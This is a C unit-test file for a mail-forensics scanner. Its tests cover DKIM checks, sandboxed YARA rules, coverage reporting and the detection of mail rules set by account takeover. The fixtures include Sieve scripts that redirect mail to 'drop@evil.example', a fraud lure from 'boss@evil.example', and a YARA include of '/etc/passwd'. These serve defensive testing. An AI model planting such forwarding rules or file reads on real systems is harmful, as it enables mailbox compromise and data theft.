/* test_scan.c - evidence becomes facts, facts become findings, and what was not examined is said.
 * With the real jailed workers. */
#include "../../detect/scan_work.h"
#include "../../parse/pool_hooks.h"
#include "check.h"
#include "hostile.h"
#include "sample_case.h"

#include "base/clock.h"
#include "parse/dkim.h"
#include "parse/yara.h"

#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct box { /* a case and a scan of it */
    struct sample sample;
    struct scan *scan;
    int64_t account, run, inbox, sent, feeds;
    uint32_t uid;
};

static const struct scan_options options = {
    .role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR};

static int64_t add_folder(struct box *box, const char *name, enum folder_use use, const char *acl)
{
    struct folder folder = {.account = box->account,
                            .name = name,
                            .raw_name = name,
                            .delimiter = '/',
                            .use = use,
                            .attributes = "",
                            .uidvalidity = 1,
                            .current = true,
                            .acl = acl};
    struct error err = {0};

    assert_ok(folder_put(box->sample.cf, &folder, &err), &err);
    return folder.id;
}

static int open_box(void **state)
{
    struct box *box = calloc(1, sizeof(*box));
    struct account account = {.user = "owner@acme.example",
                              .host = "mail.acme.example",
                              .address = "",
                              .server = "",
                              .certificate = ""};
    struct error err = {0};

    assert_non_null(box);
    sample_make(&box->sample);
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "owner@mail.acme.example", &box->run, &err),
              &err);
    assert_ok(account_put(box->sample.cf, &account, &err), &err);
    box->account = account.id;
    box->inbox = add_folder(box, "INBOX", FOLDER_INBOX, "");
    box->sent = add_folder(box, "Sent", FOLDER_SENT, "");
    box->feeds = add_folder(box, "RSS Feeds", FOLDER_PLAIN, "");
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_open(&box->scan, box->sample.cf, &options, &err), &err);
    *state = box;
    return 0;
}

static int close_box(void **state)
{
    struct box *box = *state;

    scan_close(box->scan);
    sample_remove(&box->sample);
    free(box);
    return 0;
}

/* One message in a folder, its bytes as evidence. */
static int64_t add_mail(struct box *box, int64_t folder, struct str bytes, struct hash *raw)
{
    struct message message = {.folder = folder,
                              .uid = ++box->uid,
                              .size = bytes.len,
                              .received = 1750000000 + box->uid,
                              .flags = "\\Seen"};
    struct error err = {0};
    struct hash hash;
    int64_t id;

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(message_plan(box->sample.cf, &message, &id, &err), &err);
    assert_ok(evidence_put(box->sample.cf, bytes, &hash, &err), &err);
    assert_ok(message_fetched(box->sample.cf, id, &hash, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    if (raw)
        *raw = hash;
    return id;
}

static int64_t add_letter(struct box *box, int64_t folder, const char *from, const char *to,
                          const char *subject)
{
    char text[1024], date[CLOCK_TEXT];

    clock_format(1750000000 + box->uid * 3600, date);
    snprintf(text, sizeof(text),
             "%sFrom: %s\r\nTo: %s\r\nSubject: %s\r\nDate: Sun, 15 Jun 2025 %.8s +0000\r\n"
             "Message-ID: <m%u@acme.example>\r\n\r\nHello.\r\n",
             folder == box->sent ? ""
                                 : "Received: from x (x [192.0.2.7]) by mx; Sun, 15 Jun 2025 "
                                   "10:00:00 +0000\r\n",
             from, to, subject, date + 11, box->uid);
    return add_mail(box, folder, str_of(text), NULL);
}

static void add_script(struct box *box, const char *name, bool active, const char *text)
{
    struct error err = {0};
    struct hash raw;

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(evidence_put(box->sample.cf, str_of(text), &raw, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_script(box->scan, box->account, name, active, &raw, &err), &err);
}

static void finish(struct box *box)
{
    struct error err = {0};

    assert_ok(scan_finish(box->scan, NULL, box->run, &err), &err);
}

static struct message message_of(struct box *box, struct arena *arena, int64_t id)
{
    struct error err = {0};
    struct message message;

    assert_ok(message_get(box->sample.cf, arena, id, &message, &err), &err);
    return message;
}

/* Severity of the detector's worst finding, -1: it said nothing. gone: also what is no more. */
static int worst_of(struct box *box, const char *detector, bool gone)
{
    struct arena arena = {0};
    struct error err = {0};
    struct finding *findings;
    size_t count;
    int worst = -1;

    assert_ok(finding_list(box->sample.cf, &arena, gone, (struct page){.most = 1000}, &findings,
                           &count, &err),
              &err);
    for (size_t i = 0; i < count; i++)
        if (strcmp(findings[i].detector, detector) == 0 && (int)findings[i].severity > worst)
            worst = (int)findings[i].severity;
    arena_dispose(&arena);
    return worst;
}

static void assert_covered(struct box *box, const char *check, enum coverage_state state,
                           const char *words)
{
    struct arena arena = {0};
    struct error err = {0};
    struct coverage *rows;
    size_t count, i;

    assert_ok(coverage_list(box->sample.cf, &arena, &rows, &count, &err), &err);
    for (i = 0; i < count && strcmp(rows[i].check, check) != 0; i++)
        ;
    if (i == count || rows[i].state != state || !strstr(rows[i].detail, words))
        fail_msg("%s: %s (%s)", check, i < count ? coverage_name(rows[i].state) : "no row",
                 i < count ? rows[i].detail : "");
    arena_dispose(&arena);
}

static bool is_short(struct box *box, const char *check)
{
    struct arena arena = {0};
    struct error err = {0};
    struct coverage *rows;
    bool is_short = false;
    size_t count;

    assert_ok(coverage_list(box->sample.cf, &arena, &rows, &count, &err), &err);
    for (size_t i = 0; i < count; i++)
        if (strcmp(rows[i].check, check) == 0)
            is_short = coverage_is_short(&rows[i]);
    arena_dispose(&arena);
    return is_short;
}

static size_t journal_entries(struct box *box, const char *action)
{
    struct arena arena = {0};
    struct error err = {0};
    struct journal_row *rows;
    size_t count, found = 0;

    assert_ok(
        journal_list(box->sample.cf, &arena, true, (struct page){.most = 500}, &rows, &count, &err),
        &err);
    for (size_t i = 0; i < count; i++)
        found += strcmp(rows[i].action, action) == 0;
    arena_dispose(&arena);
    return found;
}

static void evidence_becomes_facts(void **state)
{
    struct box *box = *state;
    int64_t id = add_letter(box, box->inbox, "Anna <anna@partner.example>", "owner@acme.example",
                            "=?utf-8?q?H=C3=B3a_=C4=91=C6=A1n?=");
    struct arena arena = {0};
    struct message message;

    finish(box);
    message = message_of(box, &arena, id);
    assert_int_equal(message.status, PARSE_OK);
    assert_string_equal(message.from, "Anna <anna@partner.example>");
    assert_string_equal(message.subject, "Hóa đơn");
    assert_string_equal(message.message_id, "m0@acme.example");
    assert_int_equal(message.direction, DIRECTION_IN);
    arena_dispose(&arena);
    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 message examined");
    assert_covered(box, "sent-mail", COVERAGE_NOT_CHECKED, "no sent mail");
    assert_covered(box, "sign-ins", COVERAGE_NO_LOG, "no sign-in log");
}

/* What strangers wrote is no look at what the owner sent. */
static void words_of_fraud_in_received_mail_leave_sent_mail_not_checked(void **state)
{
    struct box *box = *state;

    add_mail(box, box->inbox,
             str_of("From: Boss <boss@evil.example>\r\nTo: owner@acme.example\r\nSubject: news\r\n"
                    "\r\nOur bank account details have changed.\r\n"),
             NULL);
    finish(box);
    assert_covered(box, "received-mail", COVERAGE_FOUND, "1 message examined");
    assert_covered(box, "sent-mail", COVERAGE_NOT_CHECKED, "no sent mail");
}

/* RFC 8463, A.3, its first signature. */
static const char signed_mail[] =
    "DKIM-Signature: v=1; a=ed25519-sha256; c=relaxed/relaxed;\r\n"
    " d=football.example.com; i=@football.example.com;\r\n"
    " q=dns/txt; s=brisbane; t=1528637909; h=from : to :\r\n"
    " subject : date : message-id : from : subject : date;\r\n"
    " bh=2jUSOH9NhtVGCQWNr9BrIAPreKQjO6Sn7XIkfJVOzv8=;\r\n"
    " b=/gCrinpcQOoIfuHNQIbq4pgh9kyIK3AQUdt9OdqQehSwhEIug4D11Bus\r\n"
    " Fa3bT3FY5OsU7ZbnKELq+eXdp1Q1Dw==\r\n"
    "From: Joe SixPack <joe@football.example.com>\r\n"
    "To: Suzie Q <suzie@shopping.example.net>\r\n"
    "Subject: Is dinner ready?\r\n"
    "Date: Fri, 11 Jul 2003 21:00:37 -0700 (PDT)\r\n"
    "Message-ID: <20030712040037.46341.5F8J@football.example.com>\r\n"
    "\r\n"
    "Hi.\r\n\r\nWe lost the game.  Are you hungry yet?\r\n\r\nJoe.\r\n";

static bool is_proven(struct box *box, const struct hash *raw)
{
    struct arena arena = {0};
    struct error err = {0};
    struct mail mail;
    struct str blob;
    bool proven;

    assert_ok(facts_get(box->sample.cf, &arena, raw, &blob, &err), &err);
    assert_ok(facts_decode(&mail, &arena, blob, &err), &err);
    assert_int_equal(mail.dkim_count, 1);
    assert_int_equal(mail.dkim[0].body, DKIM_BODY_SAME);
    proven = dkim_proves(&mail.dkim[0]);
    arena_dispose(&arena);
    return proven;
}

static void a_key_of_the_operators_proves_a_signature(void **state)
{
    static const char key[] = "brisbane._domainkey.football.example.com v=DKIM1; k=ed25519; "
                              "p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=\n";
    struct box *box = *state;
    struct error err = {0};
    struct scan_job again = {
        .cf = box->sample.cf,
        .options = {.role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR}};
    char path[TEMP_PATH + 16];
    struct hash raw;

    add_mail(box, box->inbox, str_of(signed_mail), &raw);
    finish(box);
    assert_false(is_proven(box, &raw));
    assert_covered(box, "signatures", COVERAGE_PARTLY, "who signed is not checked");
    assert_covered(box, "signatures", COVERAGE_PARTLY,
                   "keys most wanted: brisbane._domainkey.football.example.com (1)");
    snprintf(path, sizeof(path), "%s/keys.txt", box->sample.folder);
    assert_ok(temp_write(path, str_of(key), &err), &err);
    again.options.dkim_keys = path;
    assert_ok(scan_all(NULL, &again, &err), &err);
    assert_true(is_proven(box, &raw));
    assert_covered(box, "signatures", COVERAGE_NOTHING, "1 made with the signer's key");
    assert_ok(temp_write(path, str_of("no key\n"), &err), &err);
    assert_false(scan_all(NULL, &again, &err));
    assert_non_null(strstr(err.text, "keys.txt: line 1"));
    again.options.dkim_keys = "/nonexistent";
    error_clear(&err);
    assert_false(scan_all(NULL, &again, &err));
}

static uint32_t traits_of_first_part(struct box *box, const struct hash *raw)
{
    struct arena arena = {0};
    struct error err = {0};
    struct mail mail;
    struct str blob;
    uint32_t traits;

    assert_ok(facts_get(box->sample.cf, &arena, raw, &blob, &err), &err);
    assert_ok(facts_decode(&mail, &arena, blob, &err), &err);
    assert_true(mail.part_count > 0);
    traits = mail.parts[0].traits;
    arena_dispose(&arena);
    return traits;
}

static void rules_of_the_operators_run_in_the_jail(void **state)
{
    static const char rules[] = "rule Dinner { strings: $a = \"lost the game\" condition: $a }\n"
                                "rule Nothing { strings: $a = \"zzzz\" condition: $a and "
                                "extension == \"\" }\n";
    struct box *box = *state;
    struct error err = {0};
    struct scan_job again = {
        .cf = box->sample.cf,
        .options = {.role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR}};
    char path[TEMP_PATH + 16];
    struct hash raw, other;

    if (!yara_is_there())
        skip();
    add_mail(box, box->inbox, str_of(signed_mail), &raw);
    add_mail(box, box->inbox, str_of("From: a@b.example\r\n\r\nwon\r\n"), &other);
    finish(box);
    assert_int_equal(traits_of_first_part(box, &raw) & PART_YARA, 0);
    assert_covered(box, "yara", COVERAGE_NOT_CHECKED, "none were given");
    snprintf(path, sizeof(path), "%s/r.yar", box->sample.folder);
    assert_ok(temp_write(path, str_of(rules), &err), &err);
    again.options.yara = path;
    assert_ok(scan_all(NULL, &again, &err), &err);
    assert_int_equal(traits_of_first_part(box, &raw) & PART_YARA, PART_YARA);
    assert_int_equal(traits_of_first_part(box, &other) & PART_YARA, 0);
    assert_covered(box, "yara", COVERAGE_FOUND, "2 rules");
    again.options.yara = box->sample.folder; /* the folder that holds it */
    assert_ok(scan_all(NULL, &again, &err), &err);
    assert_ok(temp_write(path, str_of("rule Broken {\n"), &err), &err);
    again.options.yara = path;
    assert_false(scan_all(NULL, &again, &err));
    assert_non_null(strstr(err.text, "r.yar: line"));
    error_clear(&err);
    assert_ok(temp_write(path, str_of("include \"/etc/passwd\"\n"), &err), &err);
    assert_false(scan_all(NULL, &again, &err));
}

static void without_mail_nothing_is_clean(void **state)
{
    struct box *box = *state;

    finish(box);
    assert_covered(box, "received-mail", COVERAGE_NOT_CHECKED, "no mail in the case");
    assert_covered(box, "attachments", COVERAGE_NOT_CHECKED, "no mail in the case");
    assert_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "no rules have been read");
    assert_covered(box, "shared-folders", COVERAGE_NOT_CHECKED, "no access lists");
}

static void mail_not_fetched_is_counted_as_missing(void **state)
{
    struct message message = {.uid = 99, .size = 10, .received = 1750000000, .flags = ""};
    struct box *box = *state;
    struct error err = {0};
    int64_t id;

    add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
    message.folder = box->inbox;
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(message_plan(box->sample.cf, &message, &id, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    finish(box);
    assert_covered(box, "received-mail", COVERAGE_PARTLY, "1 not fetched yet");
}

/* A finding does not make whole what was not seen: it stays among what was not examined. */
static void a_check_that_found_something_may_still_be_short(void **state)
{
    struct message message = {.uid = 99, .size = 10, .received = 1750000000, .flags = ""};
    struct box *box = *state;
    struct error err = {0};
    int64_t id;

    add_mail(box, box->inbox,
             str_of("From: Boss <boss@evil.example>\r\nTo: owner@acme.example\r\nSubject: news\r\n"
                    "\r\nOur bank account details have changed.\r\n"),
             NULL);
    finish(box);
    assert_false(is_short(box, "received-mail"));
    message.folder = box->inbox;
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(message_plan(box->sample.cf, &message, &id, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    finish(box);
    assert_covered(box, "received-mail", COVERAGE_FOUND, "1 not fetched yet");
    assert_true(is_short(box, "received-mail"));
}

static void which_way_a_mail_went_is_told(void **state)
{
    struct box *box = *state;
    int64_t received =
        add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "a");
    int64_t sent =
        add_letter(box, box->sent, "Owner <owner@acme.example>", "anna@partner.example", "b");
    int64_t forged = add_letter(box, box->inbox, "owner@acme.example", "owner@acme.example", "c");
    int64_t moved = add_letter(box, box->feeds, "owner@acme.example", "anna@partner.example", "d");
    struct arena arena = {0};

    finish(box);
    assert_int_equal(message_of(box, &arena, received).direction, DIRECTION_IN);
    assert_int_equal(message_of(box, &arena, sent).direction, DIRECTION_SENT);
    assert_int_equal(message_of(box, &arena, forged).direction, DIRECTION_IN);
    assert_int_equal(message_of(box, &arena, moved).direction, DIRECTION_SENT);
    arena_dispose(&arena);
}

static void copies_of_a_mail_count_once(void **state)
{
    static const char text[] = "From: owner@acme.example\r\nTo: anna@partner.example\r\n"
                               "Date: Sun, 15 Jun 2025 10:00:00 +0000\r\nSubject: x\r\n\r\nx\r\n";
    struct box *box = *state;
    int64_t one = add_mail(box, box->inbox, str_of(text), NULL);
    int64_t two = add_mail(box, box->sent, str_of(text), NULL);
    struct arena arena = {0};

    finish(box);
    assert_int_equal(box->scan->stored, 1);
    assert_covered(box, "received-mail", COVERAGE_NOTHING,
                   "1 message examined; copies count once: 1 more");
    assert_int_equal(message_of(box, &arena, one).direction, DIRECTION_SENT);
    assert_int_equal(message_of(box, &arena, two).direction, DIRECTION_SENT);
    arena_dispose(&arena);
}

static void what_is_offered_is_parsed_in_the_owners_loop(void **state)
{
    struct box *box = *state;
    struct error err = {0};
    struct hash raw;
    int64_t deadline = clock_mono_ms() + 10000;

    add_mail(box, box->inbox, str_of("Subject: x\r\n\r\nx\r\n"), &raw);
    scan_offer(box->scan, &raw);
    scan_offer(box->scan, &raw);
    while (box->scan->stored == 0 && clock_mono_ms() < deadline)
        assert_ok(scan_run(box->scan, &err), &err);
    assert_int_equal(box->scan->stored, 1);
    scan_offer(box->scan, &raw);
    assert_ok(scan_run(box->scan, &err), &err);
    assert_int_equal(pool_busy(box->scan->pool), 0);
    finish(box);
    assert_true(box->scan->stored <= 2);
}

static void a_mail_that_crashes_the_parser_costs_only_itself(void **state)
{
    struct box *box = *state;
    struct arena arena = {0};
    struct message message;
    struct buf crash;
    int64_t bad, good;
    unsigned started;

    pool_trust(box->scan->pool);
    hostile_make("HC-06", 200000, &crash);
    bad = add_mail(box, box->inbox, buf_as_str(&crash), NULL);
    good = add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
    finish(box);
    message = message_of(box, &arena, bad);
    assert_int_equal(message.status, PARSE_CRASHED);
    assert_true(message.limit[0]); /* how it ended */
    assert_int_equal(message_of(box, &arena, good).status, PARSE_OK);
    assert_int_equal(journal_entries(box, "parse-quarantined"), 1);
    assert_covered(box, "received-mail", COVERAGE_LIMIT,
                   "1 not analysed because the parser crashed");
    started = pool_started(box->scan->pool);
    assert_true(started >= SCAN_TRIES);
    finish(box); /* it is left alone from now on */
    assert_int_equal(pool_started(box->scan->pool), started);
    assert_int_equal(journal_entries(box, "parse-quarantined"), 1);
    buf_dispose(&crash);
    arena_dispose(&arena);
}

static void a_mail_beyond_a_limit_is_examined_in_part_and_said_so(void **state)
{
    struct box *box = *state;
    struct arena arena = {0};
    struct message message;
    struct buf deep;
    int64_t id;

    hostile_make("HC-02", 60, &deep);
    id = add_mail(box, box->inbox, buf_as_str(&deep), NULL);
    finish(box);
    message = message_of(box, &arena, id);
    assert_int_equal(message.status, PARSE_LIMIT);
    assert_true(message.limit[0]);
    assert_int_equal(journal_entries(box, "parse-limit"), 1);
    assert_covered(box, "attachments", COVERAGE_LIMIT, "1 analysed in part");
    buf_dispose(&deep);
    arena_dispose(&arena);
}

static void mail_whose_evidence_is_lost_is_said_to_wait(void **state)
{
    struct box *box = *state;

    add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
    assert_int_equal(rename(sample_path(&box->sample, "evidence/000001.seg"),
                            sample_path(&box->sample, "evidence/lost")),
                     0);
    finish(box);
    assert_covered(box, "received-mail", COVERAGE_NOT_CHECKED, "no message has been analysed");
    assert_int_equal(rename(sample_path(&box->sample, "evidence/lost"),
                            sample_path(&box->sample, "evidence/000001.seg")),
                     0);
    finish(box);
    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 message examined");
}

static void a_script_becomes_rules_and_findings(void **state)
{
    struct box *box = *state;
    struct error err = {0};

    add_script(
        box, "main", true,
        "require [\"fileinto\"];\n# rule:[.]\nif header :contains \"subject\" \"invoice\" {\n"
        "  redirect \"drop@evil.example\"; fileinto \"RSS Feeds\"; stop; }\n");
    add_script(box, "old", false, "redirect :copy \"drop@evil.example\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_int_equal(worst_of(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
    assert_int_equal(worst_of(box, "rule-money-or-security", false), SEVERITY_CRITICAL);
    assert_true(worst_of(box, "rule-odd-name", false) >= 0);
    assert_true(worst_of(box, "rule-inactive-script", false) >= 0);
    assert_covered(box, "rules-sieve", COVERAGE_FOUND, "finding");
}

static void a_script_that_does_not_parse_is_not_clean(void **state)
{
    struct box *box = *state;
    struct error err = {0};

    add_script(box, "main", true, "keep;\nif header :contains \"subject\" {{{\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "does not parse");
}

static void a_script_that_calls_an_unknown_one_is_not_wholly_read(void **state)
{
    struct box *box = *state;
    struct error err = {0};

    add_script(box, "main", true, "require [\"include\"];\ninclude :personal \"other\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_FOUND, "\"other\" is called");
    add_script(box, "other", false, "keep;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_NOTHING, "2 rules examined");
}

/* An acquisition that begins, and what kept it from the rules. */
static void miss_rules(struct box *box, const char *why)
{
    struct error err = {0};

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "again", &box->run, &err), &err);
    assert_ok(rule_missed(box->sample.cf, box->account, box->run, why, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
}

static void rules_that_the_newest_look_missed_are_not_called_examined(void **state)
{
    struct box *box = *state;
    struct error err = {0};

    miss_rules(box, "cannot reach it");
    assert_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "no rules have been read");
    add_script(box, "main", true, "keep;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_NOTHING, "1 rule examined");
    miss_rules(box, "cannot reach it");
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "1 rule examined; those of owner@acme");
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "Z, the newest acquisition did not");
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, ": cannot reach it");
    finish(box); /* a scan sees no server */
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
    add_script(box, "main", true, "# no rule\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_NOTHING, "holds no rules");
    miss_rules(box, "cannot reach it");
    assert_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "there were no rules; those of owner");
    add_script(box, "main", true, "discard;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    miss_rules(box, "cannot reach it");
    assert_covered(box, "rules-sieve", COVERAGE_FOUND, "have not been seen since 2");
}

static void rules_of_another_mailbox_say_nothing_of_this_one(void **state)
{
    struct account other = {.user = "second@acme.example",
                            .host = "mail.acme.example",
                            .address = "",
                            .server = "",
                            .certificate = ""};
    struct box *box = *state;
    struct error err = {0};

    add_script(box, "main", true, "keep;\n");
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(rule_missed(box->sample.cf, other.id, box->run, "refused", &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_covered(box, "rules-sieve", COVERAGE_PARTLY,
                   "1 rule examined; those of second@acme.example at mail.acme.example have never "
                   "been read: refused");
}

static void what_is_no_longer_there_is_gone_not_forgotten(void **state)
{
    struct box *box = *state;
    struct error err = {0};
    int64_t second;

    add_script(box, "main", true, "redirect \"drop@evil.example\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_int_equal(worst_of(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "again", &second, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    add_script(box, "main", true, "keep;\n");
    assert_ok(scan_detect(box->scan, second, &err), &err);
    assert_int_equal(worst_of(box, "rule-forwards-outside", false), -1);
    assert_int_equal(worst_of(box, "rule-forwards-outside", true), SEVERITY_CRITICAL);
}

static void the_same_scan_twice_gives_the_same_findings(void **state)
{
    struct box *box = *state;
    struct arena arena = {0};
    struct error err = {0};
    struct finding *findings;
    size_t first, second;

    for (int i = 0; i < 4; i++) {
        add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "a");
        add_letter(box, box->sent, "owner@acme.example", "anna@partner.example", "a");
    }
    add_letter(box, box->feeds, "anna@partner.example", "owner@acme.example", "payment");
    finish(box);
    assert_int_equal(worst_of(box, "hiding-folder", false), SEVERITY_HIGH);
    assert_ok(finding_list(box->sample.cf, &arena, true, (struct page){.most = 100}, &findings,
                           &first, &err),
              &err);
    finish(box);
    assert_ok(finding_list(box->sample.cf, &arena, true, (struct page){.most = 100}, &findings,
                           &second, &err),
              &err);
    assert_int_equal(first, second);
    arena_dispose(&arena);
}

static void a_scan_by_itself_is_a_run_with_its_entries(void **state)
{
    struct box *box = *state;
    struct scan_job order = {
        .case_path = box->sample.path, .cf = box->sample.cf, .options = options};
    struct arena arena = {0};
    struct error err = {0};
    struct run *runs;
    size_t count;
    uint64_t wrong;

    add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
    assert_ok(job_run(scan_all, &order, &err), &err);
    assert_ok(run_list(box->sample.cf, &arena, &runs, &count, &err), &err);
    assert_string_equal(runs[0].kind, "scan");
    assert_string_equal(runs[0].outcome, "ok");
    assert_true(runs[0].ended > 0);
    assert_int_equal(journal_entries(box, "scan-begin"), 1);
    assert_int_equal(journal_entries(box, "scan-end"), 1);
    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 message examined");
    assert_ok(sample_verify(box->sample.cf, &wrong, NULL, &err), &err);
    assert_int_equal(wrong, 0);
    arena_dispose(&arena);
}

static void missing_word_lists_are_an_error_in_words(void **state)
{
    struct box *box = *state;
    struct scan_options wrong = options;
    struct error err = {0};
    struct scan *scan;

    wrong.data_dir = "/nonexistent";
    assert_false(scan_open(&scan, box->sample.cf, &wrong, &err));
    assert_non_null(strstr(err.text, "the word lists: cannot open /nonexistent/"));
}

/* Takes answers until so many wait to be stored, and hands out nothing more. */
static void wait_for_results(struct box *box, size_t count)
{
    int64_t until = clock_mono_ms() + 20000;

    while (box->scan->filling->count < count) {
        struct pollfd fds[4];
        struct error err = {0};

        assert_true(clock_mono_ms() < until);
        poll(fds, scan_fds(box->scan, fds, ARRAY_LEN(fds)), 100);
        assert_ok(pool_run(box->scan->pool, &err), &err);
    }
}

static void workers_get_more_to_do_while_results_are_stored(void **state)
{
    enum { MANY = 64 };
    struct box *box = *state;
    const struct scan_batch *batch = box->scan->filling;
    struct message_counts counts;
    struct error err = {0};
    uint64_t given;

    for (unsigned i = 0; i < MANY; i++) {
        struct hash raw;
        char text[200];

        snprintf(text, sizeof(text), "From: a@partner.example\r\nSubject: %u\r\n\r\nHello.\r\n", i);
        add_mail(box, box->inbox, str_of(text), &raw);
        scan_offer(box->scan, &raw);
    }
    assert_ok(scan_pump(box->scan, &err), &err);
    given = box->scan->serial;
    assert_true(given >= 8 && given < MANY);
    wait_for_results(box, (size_t)given);
    box->scan->filling->since = 0; /* long ago */
    assert_ok(scan_store_due(box->scan, &err), &err);
    assert_true(box->scan->serial > given);
    assert_true(box->scan->filling != batch);
    assert_int_equal(batch->count, 0);
    finish(box);
    assert_ok(message_count(box->sample.cf, &counts, &err), &err);
    assert_int_equal(counts.parsed, MANY);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(evidence_becomes_facts, open_box, close_box),
        cmocka_unit_test_setup_teardown(a_key_of_the_operators_proves_a_signature, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(rules_of_the_operators_run_in_the_jail, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(words_of_fraud_in_received_mail_leave_sent_mail_not_checked,
                                        open_box, close_box),
        cmocka_unit_test_setup_teardown(without_mail_nothing_is_clean, open_box, close_box),
        cmocka_unit_test_setup_teardown(mail_not_fetched_is_counted_as_missing, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_check_that_found_something_may_still_be_short, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(which_way_a_mail_went_is_told, open_box, close_box),
        cmocka_unit_test_setup_teardown(copies_of_a_mail_count_once, open_box, close_box),
        cmocka_unit_test_setup_teardown(what_is_offered_is_parsed_in_the_owners_loop, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_mail_that_crashes_the_parser_costs_only_itself, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_mail_beyond_a_limit_is_examined_in_part_and_said_so,
                                        open_box, close_box),
        cmocka_unit_test_setup_teardown(mail_whose_evidence_is_lost_is_said_to_wait, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_script_becomes_rules_and_findings, open_box, close_box),
        cmocka_unit_test_setup_teardown(a_script_that_does_not_parse_is_not_clean, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_script_that_calls_an_unknown_one_is_not_wholly_read,
                                        open_box, close_box),
        cmocka_unit_test_setup_teardown(rules_that_the_newest_look_missed_are_not_called_examined,
                                        open_box, close_box),
        cmocka_unit_test_setup_teardown(rules_of_another_mailbox_say_nothing_of_this_one, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(what_is_no_longer_there_is_gone_not_forgotten, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(the_same_scan_twice_gives_the_same_findings, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(a_scan_by_itself_is_a_run_with_its_entries, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(missing_word_lists_are_an_error_in_words, open_box,
                                        close_box),
        cmocka_unit_test_setup_teardown(workers_get_more_to_do_while_results_are_stored, open_box,
                                        close_box),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
